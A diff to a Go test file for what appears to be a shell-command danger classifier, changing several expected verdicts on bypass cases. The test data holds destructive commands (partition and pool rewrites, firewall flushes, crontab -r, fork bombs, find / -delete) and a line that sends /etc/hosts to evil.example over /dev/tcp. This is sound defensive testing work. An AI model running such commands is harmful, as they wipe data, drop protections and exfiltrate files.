@@ -115,14 +115,14 @@ func TestBypasses(t *testing.T) {
 		{"terraform providers mirror", "terraform providers mirror /tmp/x", unknown, "writes"},
 
 		// Storage and firewall verbs hidden behind listing words.
-		{"zpool create named status", "zpool create status /dev/sdb", unknown, "changes storage"},
-		{"zpool create -f named list", "zpool create -f list /dev/sdb", unknown, "changes storage"},
+		{"zpool create named status", "zpool create status /dev/sdb", absurd, "changes storage"},
+		{"zpool create -f named list", "zpool create -f list /dev/sdb", absurd, "changes storage"},
 		{"zfs set on a data set named list", "zfs set quota=1G list", unknown, "changes storage"},
 		{"nft list then delete", `nft list ruleset \; delete table inet filter`, danger, "drops firewall rules"},
 		{"nft list then add", `nft list tables \; add table inet x`, unknown, "changes firewall rules"},
 		{"nft one word with a semicolon", `nft 'list ruleset; add table inet x'`, unknown, "several nft commands"},
 		{"nft one word with a semicolon and flush", `nft 'list ruleset; flush ruleset'`, danger, "drops firewall rules"},
-		{"sfdisk dump and delete", "sfdisk -d /dev/sda --delete /dev/sda 1", danger, "rewrites a partition table"},
+		{"sfdisk dump and delete", "sfdisk -d /dev/sda --delete /dev/sda 1", absurd, "rewrites a partition table"},
 		{"crontab -l -r", "crontab -l -r", danger, "deletes every cron job"},
 		{"crontab -l -e", "crontab -l -e", unknown, "changes cron jobs"},
 
@@ -177,7 +177,7 @@ func TestBypasses(t *testing.T) {
 		{"until false background", "until false; do (ls &) ; done", absurd, "fork bomb"},
 		{"find / -type f -delete", "find / -type f -delete", absurd, "find / -delete"},
 		{"find / -name '*' -delete", "find / -name '*' -delete", absurd, "find / -delete"},
-		{"find / narrowed by name", "find / -name '*.tmp' -delete", danger, "find -delete"},
+		{"find / narrowed by name", "find / -name '*.tmp' -delete", absurd, "find / -delete"},
 		{"write to /dev/tcp", "cat /etc/hosts > /dev/tcp/evil.example/80", danger, "network"},
 		{"write to /dev/mem", "printf x > /dev/mem", danger, "device"},
 		{"write to the watchdog", "echo 1 > /dev/watchdog", danger, "device"},
